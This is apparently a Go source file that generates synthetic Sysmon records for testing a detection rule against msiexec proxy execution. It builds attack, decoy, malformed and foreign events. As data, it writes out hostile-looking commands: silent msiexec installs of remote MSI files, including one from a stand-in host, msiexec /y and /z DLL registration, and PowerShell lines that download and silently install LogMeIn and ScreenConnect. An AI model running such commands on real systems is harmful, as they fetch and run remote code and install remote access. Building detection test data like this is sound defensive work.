package sysmongen

import "strings"

// This file holds the records that involve msiexec: attacks the seed rule
// must match, decoys it must not, and the foreign (non-Sysmon) records.

// attackStep is one process creation of an attack incident. Its strings
// are owned (not arena) and may hold catalog placeholders.
type attackStep struct {
	scenario      string
	child         *exe
	cmd, cwd      string
	parentExe     *exe
	parentCmd     string
	parentPID     uint32
	parentStart   int64 // Unix seconds
	parentCounter uint16
}

// incident is a kind of attack: one or more process creations on one host
// within one second.
type incident struct {
	name   string
	weight int
	mean   float64 // mean number of steps
	build  func(g *Generator, h *host, t int64, steps []attackStep) []attackStep
}

// incidents are modelled on the real launches of Atomic Red Team's
// T1218.007 tests and of remote-access tool installs (sysmon-formats.md).
var incidents = []incident{
	{"art-local-msi", 4, 2, (*Generator).incidentLocalMSI},
	{"art-remote-msi", 2, 1.5, (*Generator).incidentRemoteMSI},
	{"art-msirunner-y", 1, 1.5, func(g *Generator, h *host, t int64, s []attackStep) []attackStep {
		return g.incidentMSIRunner(h, t, s, "/y")
	}},
	{"art-msirunner-z", 1, 1.5, func(g *Generator, h *host, t int64, s []attackStep) []attackStep {
		return g.incidentMSIRunner(h, t, s, "/z")
	}},
	{"ps-logmein", 2, 1, (*Generator).incidentLogMeIn},
	{"ps-screenconnect", 2, 1, (*Generator).incidentScreenConnect},
	{"cmd-conhost", 1, 1, (*Generator).incidentConhostOnly},
	{"art-series", 1, 4, (*Generator).incidentSeries},
}

// meanBurst is the expected number of records of one incident.
func meanBurst() float64 {
	var sum, w float64
	for _, k := range incidents {
		sum += float64(k.weight) * k.mean
		w += float64(k.weight)
	}
	return sum / w
}

const artBin = `C:\AtomicRedTeam\atomics\T1218.007\bin\`

var artPayloads = []string{"JScript", "VBScript", "DLL", "EXE"}

// msiexecCall returns how a command line names msiexec, and the image it
// runs, in one of the spellings seen in real records.
func (g *Generator) msiexecCall() (call string, image *exe) {
	switch n := g.intn(10); {
	case n < 5:
		return `c:\windows\system32\msiexec.exe`, exeMsiexec
	case n < 7:
		return `msiexec.exe`, exeMsiexec
	case n < 8:
		return `MSIEXEC.EXE`, exeMsiexec
	default:
		return `C:\Windows\SysWOW64\MsiExec.exe`, exeMsiexecWow64
	}
}

// cmdParent starts a transient cmd.exe (as Atomic Red Team's command
// prompt executor does) that runs line, and returns it as step fields.
func (g *Generator) cmdParent(h *host, t int64, line string) attackStep {
	h.guidCounter++
	return attackStep{
		parentExe: exeCmd, parentCmd: `"cmd.exe" /c ` + line,
		parentPID: g.pid(), parentStart: t/1e9 - int64(g.intn(2)), parentCounter: h.guidCounter,
	}
}

func (g *Generator) psParent(h *host, t int64, script string) attackStep {
	h.guidCounter++
	x := exePowerShell
	cmd := `"powershell.exe" & {` + script + `}`
	if g.chance(0.3) {
		x = exePwsh
		cmd = `"pwsh.exe" -NoProfile -Command & {` + script + `}`
	}
	return attackStep{
		parentExe: x, parentCmd: cmd,
		parentPID: g.pid(), parentStart: t/1e9 - int64(1+g.intn(20)), parentCounter: h.guidCounter,
	}
}

// conhost returns the console host cmd.exe starts: a child whose only
// mention of msiexec is its parent's command line.
func conhost(parent attackStep, scenario string) attackStep {
	s := parent
	s.scenario = scenario
	s.child = exeConhost
	s.cmd = `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`
	s.cwd = `C:\Windows`
	return s
}

func (g *Generator) incidentLocalMSI(h *host, t int64, steps []attackStep) []attackStep {
	call, image := g.msiexecCall()
	line := call + ` /q /i "` + artBin + `T1218.007_` + artPayloads[g.intn(len(artPayloads))] + `.msi"`
	s := g.cmdParent(h, t, line)
	steps = append(steps, conhost(s, "art-local-msi-conhost"))
	s.scenario, s.child, s.cmd, s.cwd = "art-local-msi", image, strings.Replace(line, " ", "  ", 1), `C:\Users\{u}\`
	return append(steps, s)
}

func (g *Generator) incidentRemoteMSI(h *host, t int64, steps []attackStep) []attackStep {
	call, image := g.msiexecCall()
	url := "https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1218.007/bin/T1218.007_JScript.msi"
	if g.chance(0.4) {
		url = "https://cdn.example.net/updates/x" + itoa(g.intn(100)) + ".msi"
	}
	line := call + ` /q /i "` + url + `"`
	s := g.cmdParent(h, t, line)
	if g.chance(0.5) {
		steps = append(steps, conhost(s, "art-remote-msi-conhost"))
	}
	s.scenario, s.child, s.cmd, s.cwd = "art-remote-msi", image, strings.Replace(line, " ", "  ", 1), `C:\Users\{u}\`
	return append(steps, s)
}

func (g *Generator) incidentMSIRunner(h *host, t int64, steps []attackStep, action string) []attackStep {
	call, image := g.msiexecCall()
	line := call + ` ` + action + ` "` + artBin + `MSIRunner.dll"`
	s := g.cmdParent(h, t, line)
	name := "art-msirunner-" + action[1:]
	if g.chance(0.5) {
		steps = append(steps, conhost(s, name+"-conhost"))
	}
	s.scenario, s.child, s.cmd, s.cwd = name, image, strings.Replace(line, " ", "  ", 1), `C:\Users\{u}\`
	return append(steps, s)
}

func (g *Generator) incidentLogMeIn(h *host, t int64, steps []attackStep) []attackStep {
	msi := `C:\Users\{u}\AppData\Local\Temp\LogMeInIgnition.msi`
	s := g.psParent(h, t, "Invoke-WebRequest -OutFile "+msi+" https://secure.logmein.com/LogMeInIgnition.msi\n$file1 = \""+msi+"\"\nStart-Process -Wait $file1 /quiet;")
	s.scenario, s.child, s.cwd = "ps-logmein", exeMsiexec, `C:\Users\{u}\`
	s.cmd = `"C:\Windows\System32\msiexec.exe" /i "` + msi + `" /quiet`
	return append(steps, s)
}

func (g *Generator) incidentScreenConnect(h *host, t int64, steps []attackStep) []attackStep {
	s := g.psParent(h, t, "$installer = \"C:\\Users\\$env:username\\Downloads\\ScreenConnect.msi\"\nInvoke-WebRequest -OutFile $installer \"https://d1kuyuqowve5id.cloudfront.net/ScreenConnect_21.11.4237.7885_Release.msi\"\nmsiexec /i $installer /qn")
	s.scenario, s.child, s.cwd = "ps-screenconnect", exeMsiexec, `C:\Users\{u}\`
	s.cmd = `"C:\Windows\system32\msiexec.exe" /i C:\Users\{u}\Downloads\ScreenConnect.msi /qn`
	return append(steps, s)
}

func (g *Generator) incidentConhostOnly(h *host, t int64, steps []attackStep) []attackStep {
	call, _ := g.msiexecCall()
	s := g.cmdParent(h, t, call+` /q /i "`+artBin+`T1218.007_`+artPayloads[g.intn(len(artPayloads))]+`.msi"`)
	return append(steps, conhost(s, "cmd-conhost"))
}

func (g *Generator) incidentSeries(h *host, t int64, steps []attackStep) []attackStep {
	for range 3 + g.intn(3) {
		call, image := g.msiexecCall()
		line := call + ` /q /i "` + artBin + `T1218.007_` + artPayloads[g.intn(len(artPayloads))] + `.msi"`
		s := g.cmdParent(h, t, line)
		s.scenario, s.child, s.cmd, s.cwd = "art-series", image, strings.Replace(line, " ", "  ", 1), `C:\Users\{u}\`
		steps = append(steps, s)
	}
	return steps
}

// buildAttack builds the process creation of one attack step.
func (g *Generator) buildAttack(h *host, s *attackStep, t int64) {
	g.begin(h, eid1, t)
	p := procSpec{
		exe: s.child, cmd: s.cmd, cwd: s.cwd, user: uUser, integrity: "High",
		parentGUID:  g.procGUID(h, s.parentStart, s.parentCounter),
		parentImage: s.parentExe.path, parentCmd: s.parentCmd, parentUser: uUser,
	}
	start := len(g.arena)
	g.arena = appendUint(g.arena, uint64(s.parentPID))
	p.parentPID = g.arenaString(start)
	g.addProcessCreate(h, &p, t)
	g.meta.Kind = KindAttack
	g.meta.Scenario = s.scenario
}

// buildDeadLetter builds the msiexec launch of an Atomic Red Team attack
// and spoils it the way real dead letters are spoiled, a third of the
// time each: cut in half (Next truncates it when truncate is returned;
// msiexec is always in the first half), without its computer name, or
// with a UtcTime nothing parses.
func (g *Generator) buildDeadLetter(h *host, t int64) (truncate bool) {
	g.deadSteps = g.incidentLocalMSI(h, t, g.deadSteps[:0])
	g.buildAttack(h, &g.deadSteps[len(g.deadSteps)-1], t)
	g.meta.Kind = KindDeadLetter
	switch g.intn(3) {
	case 0:
		g.meta.Scenario = "dead-truncated"
		return true
	case 1:
		g.meta.Scenario = "dead-no-host"
		g.ev.noComputer = true
	default:
		g.meta.Scenario = "dead-bad-time"
		for i := range g.ev.fields {
			if g.ev.fields[i].name == "UtcTime" {
				g.ev.fields[i].val = "yesterday at noon"
			}
		}
	}
	return false
}

// decoy is a record that mentions msiexec (or looks like it does) and
// must not match the seed rule.
type decoy struct {
	name   string
	weight int
	build  func(g *Generator, h *host, t int64)
}

var decoys = []decoy{
	// The Windows Installer service and its custom-action servers.
	{"msi-service", 2, func(g *Generator, h *host, t int64) {
		g.decoySpawn(h, t, rServices, nil, "", exeMsiexec, `C:\Windows\system32\msiexec.exe /V`, uSystem, "System")
	}},
	{"msi-embedding", 3, func(g *Generator, h *host, t int64) {
		g.decoySpawn(h, t, -1, exeMsiexec, `C:\Windows\system32\msiexec.exe /V`, exeMsiexec, `C:\Windows\System32\MsiExec.exe -Embedding {X}{X}{X}{X} C`, uSystem, "System")
	}},
	{"msi-embedding-services", 2, func(g *Generator, h *host, t int64) {
		g.decoySpawn(h, t, rServices, nil, "", exeMsiexec, `C:\Windows\System32\MsiExec.exe -Embedding {X}{X}{X}{X}`, uSystem, "System")
	}},
	{"msi-embedding-wow64", 1, func(g *Generator, h *host, t int64) {
		g.decoySpawn(h, t, -1, exeMsiexec, `C:\Windows\system32\msiexec.exe /V`, exeMsiexecWow64, `C:\Windows\syswow64\MsiExec.exe -Embedding {X}{X}{X}{X} E Global\MSI0000`, uSystem, "System")
	}},
	// A user double-clicks an installer: explorer.exe is not a parent the
	// rule looks for.
	{"msi-user-install", 2, func(g *Generator, h *host, t int64) {
		g.decoySpawn(h, t, rExplorer, nil, "", exeMsiexec, `"C:\Windows\System32\msiexec.exe" /i "C:\Users\{u}\Downloads\GoogleChromeStandaloneEnterprise64.msi" `, uUser, "Medium")
	}},
	// taskhost\.exe does not match taskhostw.exe.
	{"msi-taskhostw", 1, func(g *Generator, h *host, t int64) {
		g.decoySpawn(h, t, rTaskhostw, nil, "", exeMsiexec, `MsiExec.exe /fa {g} /qn`, uUser, "Medium")
	}},
	// msiexecutor is not the token msiexec, whatever its parent.
	{"msiexecutor", 2, func(g *Generator, h *host, t int64) {
		g.decoySpawn(h, t, -1, exeCmd, `C:\Windows\system32\cmd.exe /c "C:\Program Files\Contoso\Deploy\msiexecutor.exe" --install agent.pkg`, exeMsiexecutor, `"C:\Program Files\Contoso\Deploy\msiexecutor.exe" --install agent.pkg --quiet`, uSystem, "System")
	}},
	// Registry values naming MsiExec.exe /I{GUID} (event 13, real in OTRF data).
	{"reg-uninstall-string", 4, func(g *Generator, h *host, t int64) {
		g.decoyRegSet(h, t, &regKey{r: -1, image: exeCompatTel, target: `\REGISTRY\A\{637b53f9-4d89-6fa1-6c98-3a1f52acff48}\Root\InventoryApplication\0000{x}{X}\UninstallString`, details: `MsiExec.exe /I{g}`})
	}},
	{"reg-modify-path", 2, func(g *Generator, h *host, t int64) {
		g.decoyRegSet(h, t, &regKey{r: -1, image: exeMsiexec, target: `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\{g}\ModifyPath`, details: `MsiExec.exe /X{g}`})
	}},
	{"msi-image-load", 2, func(g *Generator, h *host, t int64) {
		g.begin(h, eid7, t)
		guid, pid := g.newProc(h, t-int64(g.intn(10))*1e9)
		g.addProcHeader(t, guid, pid)
		g.add("Image", exeMsiexec.path)
		g.addImageFields(h, dllMsi, "ImageLoaded")
		g.add("Signed", "true")
		g.add("Signature", "Microsoft Windows")
		g.add("SignatureStatus", "Valid")
		g.add("User", h.accounts[uSystem].user)
	}},
	{"msi-file-create", 1, func(g *Generator, h *host, t int64) {
		g.begin(h, eid11, t)
		guid, pid := g.newProc(h, t-int64(g.intn(10))*1e9)
		g.addProcHeader(t, guid, pid)
		g.add("Image", exeMsiexec.path)
		g.add("TargetFilename", g.expand(h, `C:\Windows\Installer\{X}.msi`))
		g.add("CreationUtcTime", g.utc(t))
		g.add("User", h.accounts[uSystem].user)
	}},
	{"msi-terminate", 1, func(g *Generator, h *host, t int64) {
		g.begin(h, eid5, t)
		guid, pid := g.newProc(h, t-int64(1+g.intn(60))*1e9)
		g.addProcHeader(t, guid, pid)
		g.add("Image", exeMsiexec.path)
		g.add("User", h.accounts[uSystem].user)
	}},
	{"msi-access", 1, func(g *Generator, h *host, t int64) {
		g.begin(h, eid10, t)
		sguid, spid := g.resident(h, rMsMpEng)
		tguid, tpid := g.newProc(h, t-int64(g.intn(10))*1e9)
		g.add("RuleName", "-")
		g.add("UtcTime", g.utc(t))
		g.add("SourceProcessGUID", sguid)
		g.addNum("SourceProcessId", spid)
		g.addUint("SourceThreadId", uint64(g.pid()))
		g.add("SourceImage", exeMsMpEng.path)
		g.add("TargetProcessGUID", tguid)
		g.addNum("TargetProcessId", tpid)
		g.add("TargetImage", exeMsiexec.path)
		g.add("GrantedAccess", "0x101000")
		g.add("CallTrace", g.callTrace(exeMsMpEng.path))
		g.add("SourceUser", h.accounts[uSystem].user)
		g.add("TargetUser", h.accounts[uSystem].user)
	}},
}

var dllMsi = newExe(`C:\Windows\System32\msi.dll`, "msi.dll", "5.0.19041.3636", "Windows Installer")

func (g *Generator) buildDecoy(h *host, t int64) {
	d := &decoys[g.pick(g.decoyTable)]
	d.build(g, h, t)
	g.meta.Kind = KindDecoy
	g.meta.Scenario = d.name
}

// decoySpawn builds a process creation under resident parent, or under a
// transient parentExe when parent < 0.
func (g *Generator) decoySpawn(h *host, t int64, parent int, parentExe *exe, parentCmd string, child *exe, cmd string, user userKind, integrity string) {
	g.begin(h, eid1, t)
	s := spawn{parent: parent, parentExe: parentExe, parentCmd: parentCmd, parentOf: rServices, child: child, cmd: cmd, cwd: `C:\Windows\system32\`, user: user, integrity: integrity}
	if parent == rExplorer || parent == rTaskhostw {
		s.cwd = `C:\Users\{u}\`
	}
	var p procSpec
	g.fromSpawn(h, &s, t, &p)
	g.addProcessCreate(h, &p, t)
}

func (g *Generator) decoyRegSet(h *host, t int64, k *regKey) {
	g.begin(h, eid13, t)
	user := g.regHeader(h, k, "SetValue", t)
	g.add("Details", g.expand(h, k.details))
	g.add("User", user)
}

// foreign is an event of another channel that shares the topic.
type foreign struct {
	name   string
	weight int
	build  func(g *Generator, h *host, t int64)
}

var foreigns = []foreign{
	{"security-4624", 10, (*Generator).foreignLogon},
	{"security-4688", 5, func(g *Generator, h *host, t int64) {
		s := &noiseSpawns[g.pick(g.spawnTable)]
		parent := s.parentExe
		if parent == nil {
			parent = residents[s.parent].exe
		}
		g.foreignProcess(h, t, s.child.path, s.cmd, parent.path)
	}},
	// The Security channel and event id 4688 rule these out.
	{"security-4688-msiexec", 1, func(g *Generator, h *host, t int64) {
		g.foreignProcess(h, t, exeMsiexec.path, `msiexec.exe  /q /i "C:\Deploy\agent.msi"`, exeCmd.path)
	}},
	{"powershell-4104", 4, func(g *Generator, h *host, t int64) {
		g.foreignScript(h, t, scripts[g.intn(len(scripts))])
	}},
	{"powershell-4104-msiexec", 1, func(g *Generator, h *host, t int64) {
		g.foreignScript(h, t, "Start-Process msiexec.exe -ArgumentList '/i \"C:\\Deploy\\agent.msi\" /qn' -Wait\r\nWrite-Host \"installed\"")
	}},
}

var scripts = []string{
	"prompt",
	"Get-Service | Where-Object {$_.Status -eq 'Running'} | Select-Object -First 10",
	"$ErrorActionPreference = 'Stop'\r\nImport-Module ActiveDirectory\r\nGet-ADUser -Filter * -SearchBase \"OU=Staff,DC=corp,DC=example,DC=com\" | Measure-Object",
	"{ Set-StrictMode -Version 1; $_.PSMessageDetails }",
	"Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object LastBootUpTime & exit",
}

func (g *Generator) buildForeign(h *host, t int64) {
	f := &foreigns[g.pick(g.foreignTable)]
	f.build(g, h, t)
	g.meta.Kind = KindForeign
	g.meta.Scenario = f.name
}

func (g *Generator) hexField(name string, n uint64) {
	start := len(g.arena)
	g.arena = append(g.arena, "0x"...)
	g.arena = appendHex(g.arena, n)
	g.add(name, g.arenaString(start))
}

func (g *Generator) foreignLogon(h *host, t int64) {
	g.begin(h, eid4624, t)
	g.add("SubjectUserSid", "S-1-5-18")
	g.add("SubjectUserName", g.expand(h, "{h}$"))
	g.add("SubjectDomainName", g.netbios)
	g.add("SubjectLogonId", "0x3e7")
	g.add("TargetUserSid", h.userSID)
	g.add("TargetUserName", h.userName)
	g.add("TargetDomainName", g.netbios)
	g.hexField("TargetLogonId", uint64(0x100000+g.intn(0xffffff)))
	g.add("LogonType", []string{"3", "3", "3", "2", "5", "10"}[g.intn(6)])
	g.add("LogonProcessName", "Kerberos")
	g.add("AuthenticationPackageName", "Kerberos")
	g.add("WorkstationName", "-")
	g.add("LogonGuid", g.expand(h, "{g}"))
	g.add("TransmittedServices", "-")
	g.add("LmPackageName", "-")
	g.add("KeyLength", "0")
	g.add("ProcessId", "0x0")
	g.add("ProcessName", "-")
	g.add("IpAddress", "10.0.0."+itoa(10+g.intn(200)))
	g.add("IpPort", itoa(49152+g.intn(16000)))
	g.add("ImpersonationLevel", "%%1833")
	g.add("RestrictedAdminMode", "-")
	g.add("TargetOutboundUserName", "-")
	g.add("TargetOutboundDomainName", "-")
	g.add("VirtualAccount", "%%1843")
	g.add("TargetLinkedLogonId", "0x0")
	g.add("ElevatedToken", "%%1842")
}

func (g *Generator) foreignProcess(h *host, t int64, image, cmd, parent string) {
	g.begin(h, eid4688, t)
	g.add("SubjectUserSid", h.userSID)
	g.add("SubjectUserName", h.userName)
	g.add("SubjectDomainName", g.netbios)
	g.add("SubjectLogonId", h.accounts[uUser].logonID)
	g.hexField("NewProcessId", uint64(g.pid()))
	g.add("NewProcessName", g.expand(h, image))
	g.add("TokenElevationType", "%%1938")
	g.hexField("ProcessId", uint64(g.pid()))
	g.add("CommandLine", g.expand(h, cmd))
	g.add("TargetUserSid", "S-1-0-0")
	g.add("TargetUserName", "-")
	g.add("TargetDomainName", "-")
	g.add("TargetLogonId", "0x0")
	g.add("ParentProcessName", parent)
	g.add("MandatoryLabel", "S-1-16-8192")
}

func (g *Generator) foreignScript(h *host, t int64, script string) {
	g.begin(h, eid4104, t)
	g.addNum("MessageNumber", "1")
	g.addNum("MessageTotal", "1")
	g.add("ScriptBlockText", script)
	start := len(g.arena)
	g.arena = appendRandGUID(g.arena, g.u64(), g.u64())
	b := g.arena[start+1 : len(g.arena)-1]
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c - 'A' + 'a'
		}
	}
	g.add("ScriptBlockId", g.arenaString(start + 1)[:len(b)])
	g.add("Path", "")
}
